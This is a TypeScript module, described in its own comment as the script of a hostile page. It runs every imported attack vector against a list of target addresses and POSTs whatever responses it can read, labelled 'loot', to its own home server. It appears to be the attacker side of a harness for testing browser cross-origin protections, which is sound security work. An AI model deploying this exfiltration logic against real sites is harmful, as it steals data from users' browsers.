import type { Loot, Orders } from './orders';
import { VECTORS } from './vectors';

/** The script of the hostile page: tries every way at every address, and tells its own server what it could read. */
async function attack({ home, shots }: Orders): Promise<void> {
  const tell = (path: string, body: string) => fetch(`${home}${path}`, { method: 'POST', mode: 'no-cors', body });
  const tries = shots.flatMap((template) =>
    Object.entries(VECTORS).map(async ([vector, run]) => {
      const url = template.url.replace('{vector}', encodeURIComponent(vector));
      const loot: Loot[] = [];
      // What the browser refuses is an error; there is nothing to report then.
      await run({ ...template, url }, (text, status) => loot.push({ vector, url, text, status })).catch(
        () => undefined
      );
      await Promise.all(loot.map((item) => tell('/loot', JSON.stringify(item))));
    })
  );
  await Promise.all(tries);
  await tell('/done', '');
}

declare global {
  /** Set before this script runs. */
  var ORDERS: Orders;
}

void attack(globalThis.ORDERS);
